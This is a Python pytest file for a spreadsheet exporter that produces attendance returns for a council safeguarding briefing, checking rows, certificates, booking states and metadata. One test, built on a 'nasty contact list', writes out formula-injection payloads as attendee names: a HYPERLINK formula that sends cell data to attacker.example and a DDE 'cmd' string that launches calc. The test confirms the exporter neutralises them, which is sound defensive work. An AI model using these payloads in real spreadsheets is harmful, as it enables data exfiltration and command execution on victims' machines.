from __future__ import annotations

import io
from datetime import datetime

import pytest
from openpyxl import load_workbook

from briefings.document_preferences import ORGANISATION_NAME, ORGANISER_NAME
from exports.base import ExportError
from exports.briefing_return import briefing_return_exporter
from exports.registry import spec
from tests.attendance_scenario import ODD_PEOPLE, Attendee, hold_briefing, nasty_people, needs_nasty_contacts


def workbook_of(outcome):
    (export_file,) = outcome.files
    return export_file, load_workbook(io.BytesIO(export_file.data))


def bookings(workbook):
    sheet = workbook["Bookings"]
    header = [c.value for c in sheet[1]]
    return [dict(zip(header, (c.value for c in row), strict=True)) for row in sheet.iter_rows(min_row=2)]


@pytest.fixture
def held(services, clock, make_briefing):
    services.preferences.set_many(
        {ORGANISATION_NAME: "Wyvernshire County Council", ORGANISER_NAME: "Jo Advisor"}
    )
    return hold_briefing(services, clock, make_briefing)


def test_every_booking_is_a_row_numbered_as_the_register_is(services, held):
    export_file, workbook = workbook_of(briefing_return_exporter(services, held.briefing.id).render())
    assert export_file.filename == "Attendance 2025-10-08 DSL update briefing.xlsx"
    assert export_file.mimetype.endswith("spreadsheetml.sheet")
    rows = bookings(workbook)
    assert [(r["No."], r["Name"]) for r in rows] == [(r.number, r.person_name) for r in held.register]
    zoe = next(r for r in rows if r["Name"] == "Zoë Brontë")
    assert zoe["Setting"] == "St Thomas à Becket C of E Primary"
    assert zoe["URN"] == 960500
    assert (zoe["District"], zoe["Phase"], zoe["Role"]) == ("Wyvern Vale", "Primary", "DSL")
    assert (zoe["Booking"], zoe["Attendance"], zoe["Minutes attended"]) == ("Booked", "Present", 120)
    late = next(r for r in rows if r["Name"] == "Jo Ó Súilleabháin")
    assert (late["Attendance"], late["Minutes attended"]) == ("Late", 90)
    unmarked = next(r for r in rows if r["Name"] == "Una Marked")
    assert unmarked["Attendance"] is None


def test_certificate_numbers_appear_once_issued(services, held):
    issued = services.certificates.issue(held.briefing.id)
    _, workbook = workbook_of(briefing_return_exporter(services, held.briefing.id).render())
    by_name = {r["Name"]: r["Certificate number"] for r in bookings(workbook)}
    for certificate in issued.certificates:
        assert by_name[certificate.details.person_name] == certificate.number
    assert by_name["Sam Absent"] is None


def test_waiting_and_cancelled_bookings_are_included(services, clock, make_briefing):
    held = hold_briefing(services, clock, make_briefing, ODD_PEOPLE, capacity=len(ODD_PEOPLE) - 1)
    services.bookings.cancel(held.row_of("Sam Absent").registration_id)
    _, workbook = workbook_of(briefing_return_exporter(services, held.briefing.id).render())
    rows = {r["Name"]: r for r in bookings(workbook)}
    # Una booked last, so she waited; Sam's cancellation then gave her his place.
    assert (rows["Sam Absent"]["No."], rows["Sam Absent"]["Booking"]) == (None, "Cancelled")
    assert rows["Una Marked"]["Booking"] == "Booked"
    assert [r["Booking"] for r in bookings(workbook)][-1] == "Cancelled"


def test_the_workbook_is_a_real_table_with_a_frozen_header(services, held):
    _, workbook = workbook_of(briefing_return_exporter(services, held.briefing.id).render())
    sheet = workbook["Bookings"]
    assert sheet.freeze_panes == "C2"
    assert sheet.tables["Bookings"].ref == f"A1:L{len(held.register) + 1}"


def test_the_front_sheet_says_which_briefing_and_who_made_it(services, held):
    _, workbook = workbook_of(briefing_return_exporter(services, held.briefing.id).render())
    about = workbook["About"]
    assert about["A1"].value == "Attendance return: DSL update briefing"
    front = {row[0].value: row[1].value for row in about.iter_rows(min_row=3) if row[0].value}
    assert front["Period"] == "Wednesday 8 October 2025, 09:30–11:30"
    assert front["Organisation"] == "Wyvernshire County Council"
    assert front["Made by"].startswith("Jo Advisor (computer user ")
    assert front["Made on"] == datetime(2025, 10, 8, 15, 0)  # the test clock, on an English clock
    assert front["Venue"] == "Wyvern Hall, Committee Room 2"
    assert front["Facilitators"] == "Siobhán O'Donnell"
    assert (front["Booked"], front["Attended"]) == (9, 7)


@needs_nasty_contacts
def test_names_from_the_nasty_contact_list_are_text_not_formulas(services, clock, make_briefing):
    people = nasty_people()
    held = hold_briefing(services, clock, make_briefing, people)
    _, workbook = workbook_of(briefing_return_exporter(services, held.briefing.id).render())
    sheet = workbook["Bookings"]
    cells = [row[1] for row in sheet.iter_rows(min_row=2)] + [row[2] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type in ("s", "n") for c in cells)
    names = {c.value for c in cells}
    assert '=HYPERLINK("http://attacker.example/?d="&A2&B2,"Click for certificate") Wood' in names
    assert "-2+3+cmd|' /C calc'!A0" in names
    quoted = [c for c in cells if c.quotePrefix]
    # The directory trims the tab- and CR-prefixed ones on the way in; the writer's own tests cover them.
    assert {c.value[:1] for c in quoted} == {"=", "-", "＝"}


def test_a_briefing_nobody_booked_is_a_clear_error(services, make_briefing):
    briefing = make_briefing()
    with pytest.raises(ExportError, match="Nobody has booked “DSL update briefing”"):
        briefing_return_exporter(services, briefing.id).render()


def test_the_spec_is_registered_under_its_stable_identifier():
    assert spec("xlsx-briefing").verbose_name.endswith("(.xlsx)")


def test_a_single_attendee_setting_with_a_formula_name_round_trips(services, clock, make_briefing):
    held = hold_briefing(services, clock, make_briefing, [Attendee("Ann", "Other", "@SUM(1+1)")])
    _, workbook = workbook_of(briefing_return_exporter(services, held.briefing.id).render())
    cell = workbook["Bookings"]["C2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("@SUM(1+1)", "s", True)


def test_a_bad_certificate_preference_does_not_block_workbooks(services, held):
    from briefings.document_preferences import MINIMUM_MINUTES

    services.preferences.set(MINIMUM_MINUTES, "lots")
    assert briefing_return_exporter(services, held.briefing.id).render().files
